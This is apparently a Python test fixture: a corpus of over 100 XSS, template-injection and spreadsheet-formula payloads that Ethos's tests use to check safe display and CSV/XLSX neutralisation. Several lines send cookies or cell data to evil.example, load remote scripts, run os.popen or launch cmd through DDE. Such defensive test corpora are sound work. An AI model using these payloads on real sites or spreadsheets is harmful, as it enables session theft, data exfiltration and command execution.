"""A corpus of hostile text for the injection tests (issue 4, item 7).

Written for Ethos, not copied from a published list. Every string is something a person could
type into a field Ethos stores and shows again: a unit name, a roster field, a survey title,
an instrument's wording, a free-text answer. Shown on a page, each must appear as the text it
is and do nothing; in a CSV or XLSX download, each one that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return must be neutralised with a leading apostrophe.

Each group is a list of distinct strings; :data:`PAYLOADS` is all of them, in order, with no
duplicates. ``MARK`` strings let a test tell a payload that ran from one that was shown.
"""

from __future__ import annotations

MARK = "xss"  # every scripted payload calls alert/confirm/fetch with a value holding this

SCRIPT_TAGS = [
    "<script>alert('xss1')</script>",
    "<SCRIPT>alert('xss2')</SCRIPT>",
    "<ScRiPt>alert`xss3`</sCrIpT>",
    "<script src=//evil.example/xss4.js></script>",
    "<script/src=data:,alert('xss5')></script>",
    "<script>document.location='//evil.example/?c='+document.cookie//xss6</script>",
    "<<script>alert('xss7');//<</script>",
    "</script><script>alert('xss8')</script>",
    "<script type=module>import('//evil.example/xss9.js')</script>",
    "<script>fetch('/api/v1/surveys').then(r=>r.text()).then(alert)//xss10</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss11')>\">",
    "<template><script>alert('xss12')</script></template>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert('xss13')>",
    "<img src=x onerror=\"alert('xss14')\">",
    "<IMG SRC=x OnErRoR=alert('xss15')>",
    "<body onload=alert('xss16')>",
    "<div onmouseover=\"alert('xss17')\">hover me</div>",
    "<input autofocus onfocus=alert('xss18')>",
    "<details open ontoggle=alert('xss19')>",
    "<video><source onerror=alert('xss20')></video>",
    "<audio src=x onerror=alert('xss21')>",
    "<marquee onstart=alert('xss22')>news</marquee>",
    "<select autofocus onfocus=alert('xss23')></select>",
    "<textarea autofocus onfocus=alert('xss24')></textarea>",
    "<button form=f formaction=javascript:alert('xss25')>go</button>",
    "<img/src=x/onerror=alert('xss26')>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;('xss27')>",
    "<a onclick=alert('xss28') href=#>click</a>",
    "<form><button formaction=javascript:alert('xss29')>send</button></form>",
    "<object data=javascript:alert('xss30')></object>",
    "<embed src=javascript:alert('xss31')>",
    "<iframe srcdoc=\"<script>alert('xss32')</script>\"></iframe>",
]

URLS = [
    "<a href=\"javascript:alert('xss33')\">open</a>",
    "<a href=\"JaVaScRiPt:alert('xss34')\">open</a>",
    "<a href=\"&#106;avascript:alert('xss35')\">open</a>",
    "<a href=\"java\tscript:alert('xss36')\">open</a>",
    "<a href=\"data:text/html,<script>alert('xss37')</script>\">open</a>",
    "<iframe src=\"javascript:alert('xss38')\"></iframe>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss39\')">',
    '<base href="//evil.example/xss40/">',
    "<link rel=stylesheet href=//evil.example/xss41.css>",
    "<form action=//evil.example/xss42><input name=password></form>",
    "javascript:alert('xss43')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzNDQnKTwvc2NyaXB0Pg==",
]

SVG_MATHML = [
    "<svg onload=alert('xss45')>",
    "<svg><script>alert('xss46')</script></svg>",
    "<svg><animate onbegin=alert('xss47') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert('xss48')\"><text x=0 y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=alert('xss49')></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(`xss50`)'/>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss51')>",
    "<math href=\"javascript:alert('xss52')\">click</math>",
    "<svg><style>@import '//evil.example/xss53.css';</style></svg>",
    "<svg/onload=alert`xss54`>",
]

ATTRIBUTE_BREAKOUTS = [
    "\"><script>alert('xss55')</script>",
    "'><script>alert('xss56')</script>",
    "\" onmouseover=\"alert('xss57')",
    "' onfocus='alert(`xss58`)' autofocus '",
    "\" autofocus onfocus=alert('xss59') x=\"",
    "`><img src=x onerror=alert('xss60')>",
    "\"/><svg onload=alert('xss61')>",
    "</textarea><script>alert('xss62')</script>",
    "</title><script>alert('xss63')</script>",
    "</option></select><img src=x onerror=alert('xss64')>",
    "--><script>alert('xss65')</script><!--",
    "]]><script>alert('xss66')</script>",
    "</style><script>alert('xss67')</script>",
    "\\\"><img src=x onerror=alert('xss68')>",
]

TEMPLATE_INJECTION = [
    "{{7*7}}",
    "{{ 7*'7' }} tmpl70",
    "{% for x in range(3) %}tmpl71{% endfor %}",
    "{{ config }} {{ settings.SECRET_KEY }} tmpl72",
    "{{ request.environ }} tmpl73",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} tmpl74",
    "{# comment tmpl75 #}",
    "${7*7} tmpl76",
    "#{7*7} tmpl77",
    "<%= 7*7 %> tmpl78",
    "%s%s%s%s%n tmpl79",
    "%(survey)s %(unit)s %(n)d tmpl80",
    "{0.__class__} {survey} tmpl81",
    "{{ lipsum.__globals__['os'].popen('id').read() }} tmpl82",
    "{% raw %}{{ tmpl83 }}{% endraw %}",
]

CSS = [
    "<style>body{background:url('javascript:alert(\"xss84\")')}</style>",
    "<div style=\"background-image:url(javascript:alert('xss85'))\">styled</div>",
    "<div style=\"width:expression(alert('xss86'))\">ie</div>",
    "<style>@import 'https://evil.example/xss87.css';</style>",
    "<p style=\"behavior:url(#default#time2)\" onbegin=alert('xss88')>",
    "<style>*{color:red}</style><span>xss89</span>",
]

ENCODED = [
    "&lt;script&gt;alert('xss90')&lt;/script&gt;",
    "&#60;script&#62;alert('xss91')&#60;/script&#62;",
    "%3Cscript%3Ealert('xss92')%3C/script%3E",
    "\\u003cscript\\u003ealert('xss93')\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert('xss94')\\x3c/script\\x3e",
    "\uff1cscript\uff1ealert('xss95')\uff1c/script\uff1e",
    "<scr\u200bipt>alert('xss96')</scr\u200bipt>",
    "+ADw-script+AD4-alert('xss97')+ADw-/script+AD4-",
    "\u202egnp.exe xss98",
    "<img src=x onerror=\\u0061lert('xss99')>",
    "Ward &amp; <b>bold</b> &copy; xss100",
    "Zoë’s ward — “quoted” <i>xss101</i> \U0001f600",
]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click here")',
    "=1+2",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "+1+1",
    "-2+3",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=WEBSERVICE("http://evil.example/xss114")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]

GROUPS = {
    "script tags": SCRIPT_TAGS,
    "event handlers": EVENT_HANDLERS,
    "URLs": URLS,
    "SVG and MathML": SVG_MATHML,
    "attribute breakouts": ATTRIBUTE_BREAKOUTS,
    "template injection": TEMPLATE_INJECTION,
    "CSS": CSS,
    "encoded": ENCODED,
    "formulas": FORMULAS,
}

PAYLOADS: list[str] = [p for group in GROUPS.values() for p in group]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet cell must not begin with unless neutralised (OWASP's list)."""

assert len(PAYLOADS) == len(set(PAYLOADS)) >= 100, "payloads must be distinct, 100 at least"
